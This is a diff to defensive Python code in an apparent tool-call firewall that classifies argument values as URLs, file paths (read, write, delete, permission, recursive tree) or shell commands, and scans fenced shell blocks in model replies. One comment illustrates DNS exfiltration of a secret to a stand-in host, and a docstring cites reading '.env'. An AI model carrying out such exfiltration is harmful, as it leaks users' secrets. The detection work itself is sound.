@@ -17,13 +17,15 @@ from aegis.intent_firewall.vocabulary import (
     DELETE_WORDS,
     NETWORK_WORDS,
     PATH_KEYS,
+    PERM_WORDS,
     SQL_KEYS,
+    TREE_READ_WORDS,
     URL_KEYS,
     WRITE_KEYS,
     WRITE_WORDS,
 )
 
-__all__ = ["PlainValue", "judge_plain"]
+__all__ = ["URL_KEY_ENDINGS", "PlainValue", "judge_plain"]
 
 
 @dataclass(frozen=True, slots=True)
@@ -33,22 +35,62 @@ class PlainValue:
     key: str
     #: Words of the action (and of the tool call around the value).
     words: frozenset[str]
+    #: The request asks for a whole tree (``recursive: true``).
+    recursive: bool = False
+
+
+#: Keys that name or describe a thing (``upload_image(name="logo.png")``): never a host,
+#: but for the actions that look a name up (``dns_lookup(name="<secret>.evil.example")``).
+_LABEL_KEYS = frozenset({"name", "title", "label", "caption", "alt", "description", "filename"})
+_NAME_LOOKUP_WORDS = frozenset({"dns", "nslookup", "dig", "whois", "traceroute", "resolve"})
+
+
+#: Key endings that name a network destination (avatar_url, callbackUri, smtp_hostname).
+URL_KEY_ENDINGS = ("url", "uri", "endpoint", "hostname", "host", "webhook")
+
+
+def _file_name(key: str, canonical: str, words: frozenset[str]) -> bool:
+    """``read_file {"name": ".env"}``: a bare name under a file action names a file."""
+    return key == "name" and bool(words & _FILE_WORDS) and "." in canonical and " " not in canonical
+
+
+_FILE_WORDS = frozenset({"file", "files", "fs", "path", "document", "attachment", "blob"})
 
 
 def _destination(value: PlainValue, scope: Scope, cwd: str) -> None:
     canonical, text, key, words = value.canonical, value.text, value.key, value.words
-    if key in URL_KEYS and not looks_like_path(canonical):
+    if (key in URL_KEYS or key.endswith(URL_KEY_ENDINGS)) and not looks_like_path(canonical):
         judge_url(scope, canonical.strip(), text, cwd)
-    elif key in PATH_KEYS or looks_like_path(canonical):
-        role = "read"
-        if words & DELETE_WORDS and key in PATH_KEYS:
-            role = "delete"
-        elif words & WRITE_WORDS or key in WRITE_KEYS:
-            role = "write"
+    elif key in PATH_KEYS or looks_like_path(canonical) or _file_name(key, canonical, words):
+        role = _path_role(value)
         path = canonical.strip()
         judge_path(scope, role, path, text, cwd, glob=has_glob(path))
-    elif words & NETWORK_WORDS and "." in canonical and " " not in canonical.strip():
+    elif (
+        words & NETWORK_WORDS
+        and "." in canonical
+        and " " not in canonical.strip()
+        and (key not in _LABEL_KEYS or bool(words & _NAME_LOOKUP_WORDS))
+    ):
         judge_url(scope, canonical.strip(), text, cwd)
+
+
+_TREE_ROLES = {"read": "read-tree", "delete": "delete-tree", "write": "write-tree"}
+
+
+def _path_role(value: PlainValue) -> str:
+    """What the action does to a path: deletes, changes the owner or mode of, writes, searches
+    every file below (a grep tool) or reads it; a whole tree when asked to recurse."""
+    key, words = value.key, value.words
+    role = "read"
+    if words & DELETE_WORDS and key in PATH_KEYS:
+        role = "delete"
+    elif words & PERM_WORDS and key in PATH_KEYS:
+        return "perm"  # on a system path it is refused whether recursive or not
+    elif words & WRITE_WORDS or key in WRITE_KEYS:
+        role = "write"
+    elif words & TREE_READ_WORDS and key in PATH_KEYS:
+        return "read-tree"
+    return _TREE_ROLES[role] if value.recursive else role
 
 
 def judge_plain(
@@ -86,3 +128,24 @@ def judge_plain(
         scope.prose = True
         judge_shell(canonical_text(text, fold=False), scope, job)
         scope.prose = False
+    if not documentation and value.key in _REPLY_KEYS and "```" in canonical:
+        for block in _shell_fences(canonical_text(text, fold=False), max_shell):
+            judge_shell(block, scope, job)
+
+
+_SHELL_FENCES = frozenset({"", "bash", "sh", "shell", "zsh", "console", "terminal", "sh-session"})
+#: Keys holding a model's own reply, which a harness may scan for fenced commands to run (a
+#: message to a person may quote commands for that person to run).
+_REPLY_KEYS = frozenset({"reply", "response", "completion", "answer", "assistant", "output_text"})
+
+
+def _shell_fences(text: str, max_shell: int) -> list[str]:
+    """Shell code in a reply's fenced blocks (```bash … ```), prompts (``$ ``) removed: a
+    harness that runs the agent's fenced commands runs these."""
+    blocks = []
+    for code in text.split("```")[1:16:2]:
+        language, _, body = code.partition("\n")
+        if language.strip().lower() in _SHELL_FENCES and len(body) <= max_shell:
+            lines = (line.strip().removeprefix("$ ") for line in body.splitlines())
+            blocks.append("\n".join(lines))
+    return blocks
